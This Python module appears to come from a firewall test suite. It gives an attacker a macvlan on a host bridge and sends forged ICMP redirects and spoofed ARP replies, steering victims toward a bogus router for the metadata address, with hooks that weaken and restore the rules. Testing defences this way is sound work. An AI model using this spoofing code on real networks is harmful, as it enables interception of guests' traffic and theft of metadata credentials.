"""Somebody with a macvlan or macvtap on the bridge itself tells victims of a better router for the metadata address.

A guest has such a card by `type='direct'`, `<source dev='br0'/>`. What it sends leaves for the bridge as the host's own packets do, and enters by
none of its ports. Gained: as redirects_sent. In the way: what leaves for the bridge and does not bear the mark of the host's own messages is checked
like a guest's (chains `others_…`, `others_errors`, `output`).
"""

import time

import rules
import space
import wire
from attacks import redirects_sent
from attacks.lib import errors
from attacks.redirects_sent import NOWHERE, NOWHERE_LINK
from field import Field
from host import Host

LINK = "52:54:00:00:02:63"


def plug(host: Host) -> None:
    """Gives the forger a macvlan on the bridge."""
    space.ip(f"link add link br0 name mv0 address {LINK} type macvlan mode bridge\nlink set mv0 netns {host.forger.name}")
    space.ip("link set mv0 up", host.forger.name)


def unplug(host: Host) -> None:
    """Takes it away."""
    space.call("ip", "-n", host.forger.name, "link", "delete", "mv0")


class Attack(redirects_sent.Attack):
    """The forger, with a second card."""

    hosts = ("address", "bridge")
    attackers = ("forger",)

    def prepare(self, host: Host) -> None:
        """Plugs it in."""
        super().prepare(host)
        plug(host)

    def attack(self, field: Field) -> None:
        """Answers for the address at first, and redirects to it."""
        card, sent, begin, me = wire.Wire("mv0"), 0, time.monotonic(), wire.mac(LINK)
        field.ready()
        while field.goes_on():
            for one in field.victims:
                for body, pair, hops in self._redirects(field, field.own(one)):
                    card.send(errors.frame((one.link, me), pair, body, hops), *errors.fragments((one.link, me), pair, body, 8, sent))
                sent += 1
            for frame in card.received(0.05):
                if time.monotonic() - begin < 1 and frame[12:14] == b"\x08\x06" and frame[38:42] == wire.ip(NOWHERE[4]):
                    card.send(wire.arp(frame[6:12], me, 2, (NOWHERE_LINK, NOWHERE[4]), (frame[6:12], wire.ip_text(frame[28:32]))))
        field.report["sent"] = sent

    def weaken(self, host: Host) -> None:
        """Has its packets pass."""
        rules.trust_what_leaves()

    def restore(self, host: Host) -> None:
        """Unplugs it."""
        unplug(host)
        super().restore(host)
